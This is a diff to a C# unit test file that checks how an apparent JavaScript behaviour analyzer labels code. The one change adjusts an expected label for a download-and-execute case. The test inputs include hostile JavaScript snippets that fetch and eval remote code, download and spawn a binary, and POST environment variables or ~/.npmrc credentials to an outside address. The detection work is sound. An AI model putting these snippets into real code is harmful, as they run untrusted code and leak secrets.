@@ -26,7 +26,7 @@ public sealed class JavaScriptTests
     [InlineData("fetch('http://192.0.2.1/a').then(r => r.text()).then(t => eval(t))", "Download http://192.0.2.1/a", "Interpret javascript from http://192.0.2.1/a")]
     [InlineData("require('https').get('https://192.0.2.1/p', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)); });", "Download https://192.0.2.1/p", "Interpret javascript from https://192.0.2.1/p")]
     [InlineData("const fs = require('fs'); const http = require('http');\nconst f = fs.createWriteStream('/tmp/x');\nhttp.get('http://192.0.2.1/x', r => r.pipe(f));\nfs.chmodSync('/tmp/x', 0o755);\nrequire('child_process').spawn('/tmp/x');",
-        "Write /tmp/x from http://192.0.2.1/x", "Download http://192.0.2.1/x", "MakeExecutable /tmp/x", "Execute /tmp/x from http://192.0.2.1/x")]
+        "Write /tmp/x from http://192.0.2.1/x", "Download http://192.0.2.1/x", "MakeExecutable /tmp/x from http://192.0.2.1/x", "Execute /tmp/x from http://192.0.2.1/x")]
     [InlineData("fetch('https://192.0.2.1/c', {method: 'POST', body: JSON.stringify(process.env)})", "Read environment", "Send https://192.0.2.1/c from environment")]
     [InlineData("const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst req = https.request({hostname: '192.0.2.9', port: 443, path: '/u', method: 'POST'}, () => {});\nreq.write(data);\nreq.end();",
         "Read ~/.npmrc", "Send https://192.0.2.9/u from ~/.npmrc")]
